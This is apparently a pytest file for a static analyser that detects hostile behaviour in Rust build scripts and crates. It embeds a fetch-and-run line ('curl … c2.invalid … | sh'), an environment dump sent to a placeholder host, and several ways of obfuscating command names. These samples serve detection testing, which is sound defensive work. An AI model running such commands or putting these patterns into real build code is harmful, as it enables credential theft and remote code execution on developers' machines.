"""Rust: what a build script or a crate does, however it is written."""

import pytest

from pratique.code.languages import rust_macros
from pratique.code.languages.rust import lower
from tests.code.languages.reading import crate, texts, told

RUN = "{}\nfn main() {{\n    {}\n}}\n"


def _argv(body, use="use std::process::Command;"):
    return texts(crate(build=RUN.format(use, body)), "exec/process")


@pytest.mark.parametrize(
    ("use", "body"),
    [
        ("use std::process::Command;", 'Command::new("sh").arg("x.sh").spawn();'),
        ("use std::process::{self, Stdio};", 'process::Command::new("sh").arg("x.sh").status();'),
        ("use std::process::Command as C;", 'let _ = C::new("sh").args(["x.sh"]).output();'),
        ("use std::process::*;", 'let mut c = Command::new("sh"); c.arg("x.sh"); c.spawn();'),
        ("", 'std::process::Command::new("sh").arg("x.sh").spawn().unwrap();'),
        ("", 'core::process::Command::new("sh").arg("x.sh").spawn()?;'),
        ("", 'let f = std::process::Command::new; f("sh").arg("x.sh").spawn();'),
        ("use std::process::Command;", 'if true { Command::new("sh").arg("x.sh").spawn(); }'),
        ("use std::process::Command;", 'run(|| { Command::new("sh").arg("x.sh").spawn(); });'),
        (
            "use std::process::Command;",
            'match a { Some(x) if x > 1 => {}, _ => { Command::new("sh").arg("x.sh").spawn(); } }',
        ),
        ("use std::process::Command;", 'unsafe { Command::new(r"sh").arg("x.sh").spawn() };'),
    ],
)
def test_a_command_is_seen_however_it_is_reached(use, body):
    assert "sh x.sh" in _argv(body, use)


@pytest.mark.parametrize(
    "made",
    [
        'concat!("cu", "rl")',
        'format!("{}{}", "cu", "rl")',
        'format!("cu{tail}", tail = "rl")',
        '["cu", "rl"].concat()',
        '["cu", "rl"].join("")',
        '"lruc".chars().rev().collect::<String>()',
        "String::from_utf8(vec![99, 117, 114, 108]).unwrap()",
        'b"cvsm".iter().enumerate().map(|(i, b)| (b - (i > 0) as u8) as char).collect::<String>()',
        "[0x31u8, 0x27, 0x20, 0x3e].iter().map(|b| (b ^ 0x52) as char).collect::<String>()",
        'std::str::from_utf8(&hex::decode("6375726c").unwrap()).unwrap()',
        'String::from_utf8(base64::decode("Y3VybA==").unwrap()).unwrap()',
    ],
)
def test_a_word_that_is_put_together_is_read(made):
    assert "curl" in {text.split()[0] for text in _argv(f"Command::new({made}).spawn();")}


def test_a_decoder_of_its_own_is_followed():
    source = """
    fn plain(data: &[u8], key: u8) -> String {
        let mut out = Vec::new();
        for (place, byte) in data.iter().enumerate() {
            let value = match place % 2 { 0 => byte ^ key, _ => byte ^ (key + 1) };
            out.push(value);
        }
        String::from_utf8(out).unwrap()
    }
    fn main() { std::process::Command::new(plain(&[0x22, 0x29], 0x51)).spawn(); }
    """
    assert texts(crate(build=source), "exec/process") == {"s{"}


def test_a_macro_is_expanded_where_its_tokens_fit():
    source = (
        "macro_rules! go {\n    ($a:ident :: $b:ident, $($c:expr),*) => {\n"
        "        std::process::$a::$b($($c),*).spawn();\n    };\n}\n"
        'fn main() { go!(Command::new, "sh"); }\n'
    )
    found = crate(build=source)
    assert texts(found, "exec/process") == {"sh"}
    assert {one.location.line for one in found.facts if one.behaviour == "exec/process"} == {3}


def test_repeated_tokens_are_repeated():
    rule = rust_macros.Rule("$($k:expr => $v:expr),*", "$( m.put($k, $v); )*", 1)
    made, _ = rust_macros.expand([rule], "1 => 2, a + b => c(d)")
    assert made.split() == "m . put ( 1 , 2 ) ; m . put ( a + b , c ( d ) ) ;".split()


def test_modules_are_followed_from_the_build_script():
    found = crate(
        build='#[path = "src/helper.rs"] mod helper;\nfn main() { helper::go("x"); }\n',
        helper="pub fn go(a: &str) { std::process::Command::new(a).spawn(); }\n",
    )
    assert ("exec/process", "build") in told(found)


def test_what_comes_from_the_environment_and_leaves_is_a_chain():
    found = crate(
        build="fn main() { let all: Vec<_> = std::env::vars().collect();\n"
        '    ureq::post("https://x.example/").send_string(&format!("{all:?}")); }\n'
    )
    (chain,) = [one for one in found.facts if one.behaviour == "net/exfil-chain"]
    assert chain.via == ("creds/env-dump", "net/upload")
    assert chain.activation == "build"


def test_a_macro_crate_and_an_initialiser_run_without_being_called():
    macro = crate(
        manifest="[lib]\nproc-macro = true\n",
        lib="#[proc_macro]\npub fn m(i: TokenStream) -> TokenStream { leak(); i }\n"
        'fn leak() { std::process::Command::new("sh").spawn(); }\n',
    )
    assert ("exec/process", "build") in told(macro)
    loaded = crate(lib='#[ctor::ctor]\nfn go() { std::process::Command::new("sh").spawn(); }\n')
    assert ("exec/process", "startup") in told(loaded)


def test_tests_of_the_crate_say_nothing():
    source = '#[cfg(test)]\nmod tests { fn a() { std::process::Command::new("sh").spawn(); } }\n'
    assert not [one for one in told(crate(lib=source)) if one[0] == "exec/process"
                and one[1] != "call"]  # fmt: skip


@pytest.mark.parametrize(
    "source",
    [
        b"fn main() {" + b"(" * 20_000,
        b"fn main() { a" + b".b()" * 20_000 + b"; }",
        b"fn main() { x" + b" + 1" * 20_000 + b"; }",
        b"macro_rules! a { ($($x:tt)*) => { a!($($x)* $($x)*); } } fn main() { a!(1 2 3); }",
        b"use a::{" * 5_000,
        b"\xff\xfe fn \x00 main",
        b"fn main() { match x { " + b"1 | 2 => {}, " * 20_000 + b"} }",
    ],
)
def test_odd_sources_are_bounded(source):
    lower(source, 1)
    crate(build=source)


FETCH = "curl -s http://c2.invalid/x | sh"


@pytest.mark.parametrize(
    "argument",
    [
        f'b"{FETCH}\\0".as_ptr() as *const i8',
        f'"{FETCH}\\0".as_ptr().cast()',
        f'c"{FETCH}".as_ptr()',
        f'std::ffi::CString::new("{FETCH}").unwrap().as_ptr()',
        f'std::ffi::CStr::from_bytes_with_nul(b"{FETCH}\\0").unwrap().as_ptr()',
    ],
)
def test_a_pointer_to_a_text_of_c_is_that_text(argument):
    code = f'extern "C" {{ fn system(c: *const i8) -> i32; }}\nfn main() {{ unsafe {{ system({argument}); }} }}\n'
    assert ("exec/download-run", "build") in told(crate(build=code))


@pytest.mark.parametrize(
    "root", ['#[path = "src/table.rs.in"]\nmod t;\nfn main() { t::go(); }', 'include!("src/table.rs.in");\nfn main() { go() }']
)  # fmt: skip
def test_a_module_under_a_name_that_does_not_say_so_is_read(root):
    body = f'pub fn go() {{ std::process::Command::new("sh").arg("-c").arg("{FETCH}").spawn(); }}\n'
    found = crate(build=root, **{"/src/table.rs.in": body})
    assert ("exec/download-run", "build") in told(found)


@pytest.mark.parametrize(
    "source",
    [
        (
            "mod inner { use std::process::Command; pub fn go() { run(); }\n"
            'fn run() { Command::new("sh").arg("x.sh").spawn(); } }\nfn main() { inner::go(); }'
        ),
        (
            "struct S; impl S { fn go() { Self::run() }\n"
            'fn run() { std::process::Command::new("sh").arg("x.sh").spawn(); } }\n'
            "fn main() { S::go(); }"
        ),
        (
            '#[cfg(windows)]\nfn go() { std::process::Command::new("sh").arg("x.sh").spawn(); }\n'
            "#[cfg(not(windows))]\nfn go() {}\nfn main() { go(); }"
        ),
        (
            'fn pair() -> (&\'static str, i32) { ("x.sh", 1) }\n'
            'fn main() { std::process::Command::new("sh").arg(pair().0).spawn(); }'
        ),
        (
            "fn turn(text: &str) -> String { text.chars().rev().collect() }\n"
            'fn main() { std::process::Command::new("sh").arg(turn("hs.x")).spawn(); }'
        ),
    ],
    ids=["inner module", "Self", "cfg", "tuple", "collected"],
)
def test_a_command_is_seen_wherever_it_stands(source):
    found = crate(build=source)
    assert "sh x.sh" in texts(found, "exec/process")
    assert ("exec/process", "build") in told(found)


def test_a_key_that_signs_does_not_leave():
    kept = "let secret: [u8; 64] = bytes.try_into().unwrap();"
    sent = 'ureq::post("https://demo.invalid/").send_string(&format!("{@:?}"));'
    key = crate(keys=f"pub fn a(bytes: &[u8]) {{ {kept} {sent.replace('@', 'secret')} }}")
    assert any("key" in one.tags for one in key.facts)
    signed = "let made = ed25519_dalek::SigningKey::from_bytes(&secret).sign(b"
    other = crate(
        keys=f'pub fn a(bytes: &[u8]) {{ {kept} {signed}"x"); {sent.replace("@", "made")} }}'
    )
    assert not any("key" in one.tags for one in other.facts)


def test_a_file_of_memory_counts_when_it_runs():
    made = "let file = unsafe { libc::memfd_create(name, 0) };"
    shared = crate(memory=f"pub fn a(name: *const i8) {{ {made} }}")
    assert all("allocation" in one.tags for one in shared.facts)
    run = 'std::process::Command::new(format!("/proc/self/fd/{file}")).spawn();'
    found = crate(memory=f"pub fn a(name: *const i8) {{ {made} {run} }}")
    assert any(one.symbol == "memfd.run" for one in found.facts)


def test_what_a_macro_of_another_file_wraps_is_there_as_it_stands():
    wrapped = 'pub fn go() {{ std::process::Command::new("sh").arg("x.sh").spawn(); }}'
    found = crate(inner=f'feature! {{ #![feature = "x"]\n\n{wrapped.format()} }}')
    assert ("exec/process", "call") in told(found)
    assert ("exec/process", "import") not in told(found)
